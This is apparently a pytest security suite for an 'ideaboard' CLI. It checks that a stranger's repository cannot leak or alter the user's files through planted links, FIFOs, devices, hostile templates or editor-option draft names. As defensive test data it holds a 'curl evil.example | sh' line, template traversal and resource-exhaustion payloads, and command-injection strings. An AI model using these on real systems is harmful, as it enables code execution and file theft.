"""A folder that a stranger filled: under every name of ours lies what should not, and every command runs in it."""

from __future__ import annotations

import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import pytest
from cli.cli_runs import Done, assert_told, here

from ideaboard.bootstrap import open_service
from ideaboard.errors import Refused
from ideaboard.publish import apart
from ideaboard.storage import encode_id, open_db
from ideaboard.storage.ids import decode_id

SECRET = "the victim's own words"
NOBODY = 65534
SHELL = b"curl evil.example | sh"
"""A last line that is torn, and would be a command in a start file."""

as_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root makes others' files")


def link(path: Path, home: Path) -> None:
    path.symlink_to(home / "secret.txt")


def dangling_link(path: Path, home: Path) -> None:
    path.symlink_to(home / "made.txt")


def link_to_folder(path: Path, home: Path) -> None:
    path.symlink_to(home / "private")


def endless_link(path: Path, _: Path) -> None:
    path.symlink_to(path.name)


def second_name(path: Path, home: Path) -> None:
    os.link(home / "secret.txt", path)


def pipe(path: Path, _: Path) -> None:
    os.mkfifo(path)


def folder(path: Path, _: Path) -> None:
    path.mkdir()


def forbidden(path: Path, _: Path) -> None:
    path.mkdir(0)


def another_users(path: Path, _: Path) -> None:
    path.write_text("not yours\n")
    os.chown(path, NOBODY, NOBODY)


def device(path: Path, _: Path) -> None:
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # as /dev/zero, which never ends


Plant = Callable[[Path, Path], None]
OF_ROOT: list[Plant] = [another_users, device]
PLANTS: list[Plant] = [link, dangling_link, link_to_folder, endless_link, pipe, folder, forbidden, *OF_ROOT]
BESIDE = (
    "board.jsonl.lock",
    "board.jsonl.torn",
    "board.jsonl.new",
    "templates",
    "templates/summary.md",
    "publish.toml",
)
IN_THE_FOLDER = ("templates", "config.toml", "README.md", "out.md", "out", "first.md")
PLACES = [*((f".ideaboard/{name}",) for name in BESIDE), IN_THE_FOLDER]
"""What is planted together: one command reads or writes each of those that lie in the folder itself."""
COMMANDS = """
add second
add - -k post
list --json
show FIRST
edit FIRST --notes n
move FIRST next
archive FIRST
restore FIRST
undo
redo
log
stats
share FIRST --url https://example.org --summary s
response add FIRST question why
draft FIRST
draft FIRST --dir out
draft FIRST --template first.md
check FIRST
templates list
templates show summary.md
changelog
changelog -o out.md
changelog -o out/new.md
changelog --format html -o out.md --force
changelog --into README.md
changelog --into README.md --diff
changelog -o out.md --diff
publish
weeknotes
weeknotes --draft
export json
export json -o out.md
export csv -o out.md --force
export bibtex -o out/new.bib
import out.md
import README.md
config show
keys
arxiv watch add w x
arxiv watch list
trust --list
demo --write out.md
demo --write out/board.jsonl
compact
check
check --repair
add third
delete FIRST -y
"""


def places_and_plants() -> Iterator[object]:
    """Return every pair; all are slow but a link at each place, and each plant at some place."""
    for number, plant in enumerate(PLANTS):
        for place, names in enumerate(PLACES):
            quick = plant is link or place == number % len(PLACES)
            marks = [*([] if quick else [pytest.mark.slow]), *([as_root] if plant in OF_ROOT else [])]
            yield pytest.param(names, plant, marks=marks, id=f"{plant.__name__}-{names[0]}")


@contextmanager
def soon(seconds: int = 60) -> Iterator[None]:
    """End what hangs."""

    def ended(*_: object) -> None:
        raise TimeoutError("it hangs")

    before = signal.signal(signal.SIGALRM, ended)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


def tree(top: Path) -> dict[str, object]:
    """Return all that lies below a folder; links are not followed."""
    found: dict[str, object] = {}
    for place, folders, names in os.walk(top):
        for path in (Path(place, name) for name in (*folders, *names)):
            status = path.lstat()
            content = path.read_bytes() if stat.S_ISREG(status.st_mode) else None
            found[str(path)] = (
                stat.S_IFMT(status.st_mode),
                status.st_mode,
                content,
                status.st_mtime_ns if content else 0,
            )
    return found


@pytest.fixture
def victim(own_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home folder with what must stay as it is and must not be seen; the program's own places are elsewhere."""
    home = own_home / "victim"
    (home / "private").mkdir(parents=True)
    (home / "secret.txt").write_text(f"{SECRET}\n")
    (home / "private" / "summary.md").write_text(f"{SECRET}\n")
    monkeypatch.delenv("IDEABOARD_BOARD")
    monkeypatch.setenv("EDITOR", "false")
    monkeypatch.setenv("IDEABOARD_ARXIV_INTERVAL", "0")
    return home


@pytest.fixture
def clone(own_home: Path, victim: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with a board in it, as it comes from a stranger; nothing of it is trusted."""
    top = own_home / "clone"
    (top / ".git").mkdir(parents=True)
    board = top / ".ideaboard" / "board.jsonl"
    here("--board", str(board), "add", "first", "-k", "summary")
    monkeypatch.chdir(top)
    (top / ".ideaboard" / "board.jsonl.lock").unlink()
    with board.open("ab") as file:
        file.write(SHELL)
    return top


def run_all(id: str) -> list[tuple[str, Done]]:
    done = []
    for line in COMMANDS.strip().split("\n"):
        words = [id if word == "FIRST" else word for word in line.split()]
        with soon():
            done.append((line, here(*words, stdin=b"a title\n")))
    return done


def assert_nothing_leaked(done: list[tuple[str, Done]], clone: Path) -> None:
    for line, one in done:
        assert 0 <= one.code <= 6, (line, one.code, one.err)
        assert "Traceback" not in one.err, line
        assert SECRET not in one.out + one.err, line
    for place, _, names in os.walk(clone):
        for path in (Path(place, name) for name in names):
            if stat.S_ISREG(path.lstat().st_mode):
                assert SECRET.encode() not in path.read_bytes(), path


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such files")
@pytest.mark.parametrize(("names", "plant"), list(places_and_plants()))
def test_nothing_outside_changes_and_nothing_hangs(
    names: tuple[str, ...], plant: Plant, clone: Path, victim: Path
) -> None:
    id = here("list", "--json").json[0]["id"]
    for name in names:
        (clone / name).parent.mkdir(exist_ok=True)
        plant(clone / name, victim)
    before = tree(victim)
    assert_nothing_leaked(run_all(id), clone)
    assert tree(victim) == before


@pytest.mark.parametrize(
    "name", [".ideaboard/board.jsonl.lock", ".ideaboard/board.jsonl.torn", ".ideaboard/board.jsonl.new"]
)
def test_a_second_name_of_a_file_of_the_users_is_not_written_to(name: str, clone: Path, victim: Path) -> None:
    id = here("list", "--json").json[0]["id"]
    second_name(clone / name, victim)
    run_all(id)
    assert (victim / "secret.txt").read_text() == f"{SECRET}\n"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such files")
@pytest.mark.parametrize("name", [".ideaboard/board.jsonl", ".ideaboard"])
@pytest.mark.parametrize("plant", [pytest.param(one, marks=as_root if one in OF_ROOT else ()) for one in PLANTS])
def test_a_board_that_is_something_else_costs_nothing(name: str, plant: Plant, clone: Path, victim: Path) -> None:
    (victim / "private" / "board.jsonl").write_bytes((clone / ".ideaboard" / "board.jsonl").read_bytes())
    shutil.rmtree(clone / ".ideaboard")
    (clone / name).parent.mkdir(exist_ok=True)
    plant(clone / name, victim)
    before = tree(victim)
    assert_nothing_leaked(run_all("abcdefgh"), clone)
    assert tree(victim) == before


@pytest.mark.parametrize("how", ["file", "folder"])
def test_a_board_that_is_a_link_out_of_its_repository_is_refused_until_it_is_trusted(
    how: str, clone: Path, victim: Path
) -> None:
    board = clone / ".ideaboard" / "board.jsonl"
    if how == "file":
        board.rename(victim / "board.jsonl")
        board.symlink_to(victim / "board.jsonl")
    else:
        board.parent.rename(victim / "theirs")
        board.parent.symlink_to(victim / "theirs")
    for arguments in (["list"], ["add", "x"], ["check"], ["check", "--repair"], ["compact"]):
        assert_told(here(*arguments), 4, "a link that leads out of its repository", f"ideaboard trust {clone}")
    assert here("config", "path").code == here("keys").code == 0
    assert here("trust").out == f"'{clone}' is trusted now\n"
    assert here("trust", "--list", "--json").json == [str(clone)]
    assert here("add", "x").code == 0
    assert here("trust", str(clone / ".ideaboard"), "--remove").code == 0
    assert_told(here("list"), 4)
    assert_told(here("trust", "--remove", str(clone)), 2, "is not trusted")
    assert here("trust", "--list").out == ""


def test_a_link_within_its_repository_and_one_of_the_users_own_are_fine(clone: Path, own_home: Path) -> None:
    board = clone / ".ideaboard" / "board.jsonl"
    board.rename(clone / "ideas.jsonl")
    board.symlink_to("../ideas.jsonl")
    assert here("add", "x").code == 0
    assert len((clone / "ideas.jsonl").read_bytes().splitlines()) == 3
    own = own_home / ".local" / "share" / "ideaboard" / "board.jsonl"
    (own_home / "dotfiles").mkdir()
    own.parent.mkdir(parents=True, exist_ok=True)
    own.symlink_to(own_home / "dotfiles" / "board.jsonl")
    os.chdir(own_home)
    assert here("add", "mine").code == 0
    assert own.is_symlink()
    assert (own_home / "dotfiles" / "board.jsonl").is_file()


@as_root
@pytest.mark.parametrize("which", ["", ".ideaboard", ".ideaboard/board.jsonl"])
def test_a_board_of_another_user_is_refused_until_it_is_trusted(
    which: str, clone: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    os.chown(clone / which, NOBODY, NOBODY)
    (clone / "src").mkdir()
    monkeypatch.chdir(clone / "src")
    content = (clone / ".ideaboard" / "board.jsonl").read_bytes()
    for line in COMMANDS.strip().split("\n"):
        if line.split()[0] not in ("config", "keys", "trust", "demo"):
            assert_told(here(*line.split(), stdin=b"x"), 4, "another user", f"ideaboard trust {clone}")
    assert (clone / ".ideaboard" / "board.jsonl").read_bytes() == content
    monkeypatch.setenv("SUDO_UID", str(NOBODY))
    assert here("list").code == 0
    monkeypatch.delenv("SUDO_UID")
    assert here("trust").code == 0
    assert here("list").code == 0


def test_only_a_folder_with_a_board_can_be_trusted(clone: Path, own_home: Path) -> None:
    assert_told(here("trust", str(own_home)), 2, "there is no board")
    (own_home / "a\nb" / ".ideaboard").mkdir(parents=True)
    (own_home / "a\nb" / ".ideaboard" / "board.jsonl").touch()
    assert_told(here("trust", str(own_home / "a\nb")), 2, "line break")
    assert here("trust", str(clone)).code == here("trust", str(clone)).code == 0
    assert here("trust", "--list").out == f"{clone}\n"


@pytest.fixture
def templates(clone: Path) -> Path:
    """The templates of a stranger."""
    folder = clone / ".ideaboard" / "templates"
    (folder / "export").mkdir(parents=True)
    return folder


def test_templates_in_a_repository_do_not_run_until_it_is_trusted(templates: Path) -> None:
    (templates / "export" / "changelog.md.j2").write_text("{{ 6 * 7 }}")
    done = here("changelog")
    assert done.out.startswith("# Shared")
    assert f"the templates in '{templates}' are not used" in done.err
    assert "ideaboard trust" in done.err
    here("trust")
    done = here("changelog")
    assert (done.out, done.code) == ("42\n", 0)
    assert "not used" not in done.err


LONG = "{{ 10 ** 10000000 }}"
ENDLESS = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"


@pytest.mark.parametrize(
    ("source", "said"),
    [
        (ENDLESS, "2 s"),
        (LONG, ""),
        ("{{ '%99999999d' % 1 }}", "8 MB"),
        ("{{ 'x'.ljust(9999999999) }}", "memory"),
        ("{{ 'x' * 9999999999 }}", "memory"),
        ("{% include 'secret' %}", "a link"),
        ("{% include 'private/summary.md' %}", "a link"),
        ("{% include '../../../victim/secret.txt' %}", "not there"),
        ("{% extends self %}", ""),
    ],
)
def test_a_template_takes_no_more_than_it_may(
    source: str, said: str, templates: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(apart, "SECONDS", 2.0 if source in (ENDLESS, LONG) else 10.0)
    (templates / "secret").symlink_to(victim / "secret.txt")
    (templates / "private").symlink_to(victim / "private")
    (templates / "export" / "changelog.md.j2").write_text(source)
    here("trust")
    with soon():
        done = here("changelog")
    assert_told(done, 2, "template", said)
    assert SECRET not in done.err


@pytest.mark.skipif(not hasattr(os, "killpg"), reason="Windows has no such signals")
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_a_template_can_be_ended(number: signal.Signals, templates: Path) -> None:
    (templates / "export" / "changelog.md.j2").write_text(ENDLESS)
    here("trust")
    started = subprocess.Popen(
        [sys.executable, "-m", "ideaboard", "changelog"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.default_int_handler),
    )
    children = Path(f"/proc/{started.pid}/task/{started.pid}/children")
    with soon():
        while children.exists() and not children.read_text():
            time.sleep(0.02)
        started.send_signal(number)
        started.communicate()
    assert started.returncode in (130, -number)


def test_a_module_of_the_strangers_is_never_imported(templates: Path, clone: Path) -> None:
    (templates / "export" / "changelog.md.j2").write_text("fine")
    for name in ("jinja2", "ideaboard", "json", "pickle", "sitecustomize"):
        (clone / f"{name}.py").write_text("raise SystemExit(99)")
    here("trust")
    assert here("changelog").out == "fine\n"


def with_draft(clone: Path, draft: str) -> str:
    """Put an idea on the stranger's board whose draft is recorded to be somewhere; return its id."""
    id = str(here("list", "--json").json[0]["id"])
    with closing(open_db(clone / ".ideaboard" / "board.jsonl")) as file:
        file.table("ideas").update({"draft": draft}, doc_ids=[decode_id(id)])
    assert here("show", id, "--json").json["draft"] == draft
    return id


@pytest.mark.parametrize("how", ["as it is", "through ..", "by a link", "by a link in a folder", "in its WRITEUP.md"])
def test_a_draft_that_a_stranger_recorded_is_not_a_file_of_the_users(
    how: str, clone: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (victim / "secret.md").write_text(f"# {SECRET}\n\n# {SECRET} too\n")
    (clone / "theirs").mkdir()
    for name in ("post.md", "theirs/WRITEUP.md"):
        (clone / name).symlink_to(victim / "secret.md")
    (clone / "private").symlink_to(victim)
    draft = {
        "as it is": f"{victim}/secret.md",
        "through ..": f"{clone}/../{victim.name}/secret.md",
        "by a link": "post.md",
        "by a link in a folder": f"{clone}/private/secret.md",
        "in its WRITEUP.md": f"{clone}/theirs",
    }[how]
    id = with_draft(clone, draft)
    done = here("check", id)
    assert_told(done, 6, "repository" if "WRITEUP" in how else "outside of the folder of its board")
    assert SECRET not in done.err
    with closing(open_service()) as service, pytest.raises(Refused):
        service.drafts.main(service.ideas.find(id))  # what `D` opens
    here("trust")
    with closing(open_service()) as service:
        assert service.drafts.main(service.ideas.find(id)).exists()


@pytest.mark.parametrize("draft", ["-c!touch made", "+!touch made", "--cmd=!touch made"])
def test_a_draft_is_never_an_option_of_the_editor(draft: str, clone: Path) -> None:
    id = with_draft(clone, draft)
    with closing(open_service()) as service:
        assert str(service.drafts.main(service.ideas.find(id))) == f"{clone}/{draft}"


def test_drafts_where_the_user_keeps_them_need_no_trust(clone: Path, own_home: Path) -> None:
    (own_home / "config.toml").write_text(f"[drafts]\nfolder = '{own_home}/posts'\n")
    id = here("list", "--json").json[0]["id"]
    assert here("draft", id).out == f"{own_home}/posts/first.md\n"
    assert here("check", id).code == 1
    assert here("draft", id, "--again", "--dir", str(clone / "docs")).code == 0
    assert here("check", id).code == 1
    assert here("draft", id, "--again", "--dir", str(own_home / "elsewhere")).code == 0
    assert_told(here("check", id), 6, "outside of the folder of its board", f"ideaboard trust {clone}")


@pytest.mark.skipif(sys.platform != "linux", reason="other systems have no such names")
def test_a_draft_that_no_card_can_name_is_not_written(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    odd = clone / os.fsdecode(b"m\xfcll")
    odd.mkdir()
    monkeypatch.chdir(odd)
    assert_told(here("draft", here("list", "--json").json[0]["id"]), 2, "is not UTF-8 text", "--dir")
    assert list(odd.iterdir()) == []


def test_a_draft_that_cannot_be_recorded_is_told_of(clone: Path) -> None:
    id = here("list", "--json").json[0]["id"]
    board = clone / ".ideaboard" / "board.jsonl"
    board.write_bytes(board.read_bytes().replace(SHELL, b"") + b"damaged\n")
    assert_told(here("draft", id), 4, "is damaged", f"the draft is at '{clone}/first.md' all the same")


@pytest.mark.parametrize("option", ["-o", "--into"])
def test_what_follows_a_link_is_not_taken_for_nothing(option: str, clone: Path, victim: Path) -> None:
    (clone / "docs").symlink_to(victim / "private")
    for top in (clone, victim):
        (top / "README.md").write_text("<!-- ideaboard:shared:start -->\n<!-- ideaboard:shared:end -->\n")
    before = tree(victim)
    assert_told(here("changelog", option, "docs/../README.md", "--force"), 6, "leads out of its repository")
    assert tree(victim) == before


def test_what_a_template_makes_is_clean_text(templates: Path) -> None:
    source = r"{{ '\ud800' }}{{ '\x1b[31m' }}{{ '\x00' }}{{ '\x9b' }}{{ '\u202e' }}fine"
    for name in ("export/changelog.md.j2", "summary.md"):
        (templates / name).write_text(source)
    here("trust")
    id = here("list", "--json").json[0]["id"]
    assert here("draft", id).out.endswith("first.md\n")
    assert Path("first.md").read_bytes() == b"fine\n"
    assert here("changelog", "-o", "out.md").code == 0
    assert Path("out.md").read_bytes() == b"fine\n"


RUNS = ["a", "1234.", "\\", "{", "[", "`", "_", "\n@", "%\n", "日", "]("]


@pytest.mark.parametrize("length", [2_000, pytest.param(100_000, marks=pytest.mark.slow)])
@pytest.mark.parametrize("run", RUNS)
def test_long_runs_of_anything_cost_no_command_its_answer(run: str, length: int, clone: Path) -> None:
    text = run * (length // len(run))
    share = {"at": "2026-01-01T00:00:00.000Z", "date": "2026-01-01", "url": f"https://x.org/{text}"}
    paper = {"arxiv_id": "1706.03762", "title": text, "authors": [text], "abstract": text, "doi": text}
    idea: dict[str, Any] = {
        "title": text,
        "kind": "summary",
        "stage": "shared",
        "notes": text,
        "tags": [text],
        "url": share["url"],
    }
    idea |= {"share": {**share, "summary": text, "result": text}, "paper": paper, "draft": "draft.md"}
    idea["responses"] = [{"id": "r", "type": "question", "text": text, "at": share["at"]}]
    with open_db(clone / ".ideaboard" / "board.jsonl") as db:
        id = encode_id(db.table("ideas").insert(idea))
        db.table("notes").insert({"period": "2026-01", "text": text})
    Path("draft.md").write_text(text)
    block = "<!-- ideaboard:shared:start -->\n<!-- ideaboard:shared:end -->"
    Path("README.md").write_text(f"{text}\n{block}\n{text}\n")
    for line in LONG_COMMANDS.strip().split("\n"):
        with soon(30):
            done = here(*[id if word == "ID" else word for word in line.split()], stdin=text.encode())
        assert 0 <= done.code <= 6, (line, done.err)


LONG_COMMANDS = """
list some words
show ID
changelog
changelog --format html
changelog --format atom
changelog --into README.md
export bibtex
export csv
share ID --texts
draft ID
check ID
import -
arxiv add -
add -
"""
